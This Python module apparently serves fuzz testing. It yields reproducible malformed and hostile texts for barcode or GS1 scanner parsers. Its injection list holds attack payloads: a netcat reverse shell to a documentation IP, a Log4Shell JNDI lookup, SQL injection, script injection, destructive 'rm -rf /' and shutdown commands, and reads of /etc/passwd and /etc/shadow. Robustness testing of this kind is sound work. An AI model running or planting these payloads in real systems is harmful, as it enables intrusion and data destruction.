"""Texts that nobody prints on goods: what a joker, a broken device or an attacker may make a scanner say."""

from __future__ import annotations

import random
import string
from collections.abc import Callable, Iterator

_DIGITS = string.digits
_INJECTIONS = (
    "<script>alert(1)</script>",
    "'; DROP TABLE product; --",
    '" OR 1=1 --',
    "$(reboot)",
    "`rm -rf /`",
    "; shutdown -h now",
    "| nc 203.0.113.7 4444 -e /bin/sh",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "${jndi:ldap://203.0.113.7/a}",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "file:///etc/shadow",
    "javascript:alert(document.cookie)",
    "\\\\host\\share",
    "http://127.0.0.1:631/admin",
)
_CONTROLS = "\x00\x01\x03\x04\x07\x08\x09\x0a\x0c\x0d\x1a\x1b\x1c\x1d\x1e\x1f\x7f\x85\x9b"
_SEQUENCES = ("\x1b[2J", "\x1b]0;title\x07", "\x1b[31m", "\r\n", "\x1d", "\x1b", "\x00", "\x16", "\x03")
_ODD = "\u202e\u2066\u200f\ufeff\ud83d\udc00\U0001f600é漢字\u0660\u0661\uff11\u0300\x85"
_IDENTIFIERS = (
    "01",
    "02",
    "00",
    "10",
    "11",
    "15",
    "17",
    "21",
    "30",
    "37",
    "3103",
    "3922",
    "3932",
    "7003",
    "8006",
    "99",
)
_URL = string.ascii_letters + _DIGITS + "/?&=%.:#-_~@[]+;"
_BRACKETED = _DIGITS + "(\\)A"
_ANY = string.printable + _ODD


def hostile_texts(count: int, seed: int = 1) -> Iterator[str]:
    """So many, always the same ones."""
    chance = random.Random(seed)
    for _ in range(count):
        yield chance.choice(_MAKERS)(chance)


def _digits(chance: random.Random) -> str:
    return "".join(chance.choices(_DIGITS, k=chance.choice((1, 6, 7, 8, 10, 12, 13, 14, 16, 18, 20, 24, 40))))


def _elements(chance: random.Random) -> str:
    """Nearly GS1: right identifiers, anything behind them, separators wherever."""
    ends = ("", "", "\x1d", "(", ")", "^")
    text = "".join(
        chance.choice(_IDENTIFIERS) + "".join(chance.choices(_DIGITS, k=chance.randrange(21))) + chance.choice(ends)
        for _ in range(chance.randrange(1, 8))
    )
    return chance.choice(("", "]C1", "]d2", "]Q3", "]e0", "\x1d", "^", "(")) + text


def _bracketed(chance: random.Random) -> str:
    return "".join(
        f"({chance.choice(_IDENTIFIERS)}){''.join(chance.choices(_BRACKETED, k=chance.randrange(16)))}"
        for _ in range(chance.randrange(1, 6))
    )


def _link(chance: random.Random) -> str:
    path = "/".join(
        chance.choice(("01", "gtin", "10", "21", "stem", "", "%2e%2e", "".join(chance.choices(_DIGITS, k=14))))
        for _ in range(chance.randrange(1, 9))
    )
    query = "&".join(f"{chance.choice(_IDENTIFIERS)}={_digits(chance)}" for _ in range(chance.randrange(4)))
    return f"{chance.choice(('https', 'http', 'HTTP', 'ftp'))}://{_word(chance)}/{path}?{query}"


def _url(chance: random.Random) -> str:
    return chance.choice(("https://", "http://", "www.", "tel:", "upi://")) + "".join(
        chance.choices(_URL, k=chance.randrange(80))
    )


def _injection(chance: random.Random) -> str:
    return chance.choice(("", "]C1", "SGB-", "SGC-", "01", "https://x/")) + chance.choice(_INJECTIONS)


def _control(chance: random.Random) -> str:
    return "".join(chance.choice((chance.choice(_SEQUENCES), _word(chance))) for _ in range(chance.randrange(1, 9)))


def _noise(chance: random.Random) -> str:
    return "".join(chance.choices(_ANY, k=chance.randrange(60)))


def _bytes(chance: random.Random) -> str:
    return chance.randbytes(chance.randrange(60)).decode("utf-8", "surrogateescape")


def _special(chance: random.Random) -> str:
    return chance.choice(("SGB-", "SGM-", "SGC-", "SGG-", "SGP-")) + _noise(chance)


def _long(chance: random.Random) -> str:
    unit = chance.choice(("9", "01", "A", "(01)", "^", "]C1", "https://", "/01", "%25", "\x1d", "(" * 9, "0" * 18))
    return unit * (chance.choice((100, 500, 3000)) // len(unit))


def _word(chance: random.Random) -> str:
    return "".join(chance.choices(string.ascii_lowercase, k=chance.randrange(1, 12)))


_MAKERS: tuple[Callable[[random.Random], str], ...] = (
    _digits, _digits, _elements, _elements, _bracketed, _link, _link, _url, _injection, _control, _noise, _noise,
    _bytes, _special, _long,
)  # fmt: skip
